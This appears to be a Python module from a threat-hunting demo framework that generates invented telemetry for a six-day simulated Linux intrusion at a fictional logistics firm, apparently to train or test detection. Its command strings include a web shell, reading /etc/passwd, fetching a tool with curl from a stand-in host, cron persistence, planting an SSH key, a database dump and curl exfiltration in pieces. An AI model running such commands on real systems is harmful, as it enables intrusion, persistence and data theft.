"""The slower intrusion at Bluefin Logistics, on Linux: a web shell, a few commands on each of six days, one dump of the ledger."""

from huntline.demo.fleet import Role
from huntline.demo.moments import SECOND
from huntline.demo.processes import Process
from huntline.demo.rhythms.unix import open_shell
from huntline.demo.stage import Stage

HARBOUR_HOST = "files.quiet-harbour.example"
_SHELL_PAGE = "/opt/portal/webapps/ROOT/help.jsp"
_TOOL = "/tmp/.cache-upd"  # noqa: S108 (a row of invented telemetry)


def _run(stage: Stage, moment: int, command: str, *, key: str = "", lasts: float = 8) -> Process:
    """The servlet engine runs a command through the shell; returns the program that it names, or the shell."""
    shell = stage.spawn("linux:sh", stage.lasting("java", moment), moment, f"sh -c {command}", lasts=lasts)
    return stage.spawn(f"linux:{key}", shell, moment + SECOND // 20, command, lasts=lasts - 1) if key else shell


def plant_shell(stage: Stage) -> None:
    """The first day: a page appears, and answers."""
    moment = stage.at(13, 22, 19)
    with stage.step("web-shell"):
        stage.write(stage.lasting("java", moment), moment, _SHELL_PAGE)
    with stage.step("web-shell-commands"):
        _run(stage, moment + 190 * SECOND, "id", key="id")
        _run(stage, moment + 201 * SECOND, "uname -a", key="uname")


def fetch_tool(stage: Stage) -> None:
    """The second day, late: who is here, and a tool."""
    moment = stage.at(22, 41, 3)
    with stage.step("web-shell-commands"):
        _run(stage, moment, "whoami", key="whoami")
        _run(stage, moment + 24 * SECOND, "cat /etc/passwd", key="cat")
    with stage.step("tool-fetch"):
        moment += 530 * SECOND
        fetch = _run(stage, moment, f"curl -s https://{HARBOUR_HOST}/u -o {_TOOL}", key="curl", lasts=12)
        stage.connect(fetch, moment + SECOND, HARBOUR_HOST)
        stage.write(fetch, moment + 3 * SECOND, _TOOL)


def write_cron_table(stage: Stage) -> None:
    """The third day, early: the tool shall come back."""
    moment = stage.at(5, 12, 37)
    with stage.step("cron"):
        shell = _run(stage, moment, f"(echo '*/40 * * * * {_TOOL} -d') | crontab -", lasts=5)
        stage.write(shell, moment + SECOND, "/var/spool/cron/crontabs/tomcat")


def add_key(stage: Stage) -> None:
    """The fourth night: a way in without the page."""
    moment = stage.at(2, 33, 48)
    with stage.step("ssh-key"):
        shell = _run(
            stage, moment, "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 >> /home/svc-web/.ssh/authorized_keys", lasts=5
        )
        stage.write(shell, moment + SECOND, "/home/svc-web/.ssh/authorized_keys", "FileModified")


def dump_ledger(stage: Stage) -> None:
    """The fifth evening, on the database server: a sign-in from the web server, and a dump outside the hour of dumps."""
    moment = stage.at(23, 15, 9)
    with stage.step("ssh-lateral"):
        account = stage.fleet.services["svc-web"]
        shell = open_shell(stage, moment, account, stage.fleet.one(Role.LINUX_WEB), lasts=1500)
        path = "/var/tmp/.l.dump"  # noqa: S108 (a row of invented telemetry)
        dump = stage.spawn("linux:pg_dump", shell, moment + 80 * SECOND, f"pg_dump -Fc -f {path} ledger", lasts=400)
        stage.write(dump, moment + 300 * SECOND, path)
        stage.spawn("linux:scp", shell, moment + 500 * SECOND, f"scp {path} portal01:/var/tmp/", lasts=60)


def send_ledger(stage: Stage) -> None:
    """The sixth night: the dump leaves in pieces."""
    moment = stage.at(0, 40, 26)
    with stage.step("linux-exfiltration"):
        for part in range(5):
            at = stage.later(moment + part * 900 * SECOND, 0, 200)
            send = _run(
                stage, at, f"curl -s -T /var/tmp/.l.dump.{part} https://{HARBOUR_HOST}/p/{part}", key="curl", lasts=60
            )
            stage.connect(send, at + SECOND, HARBOUR_HOST)
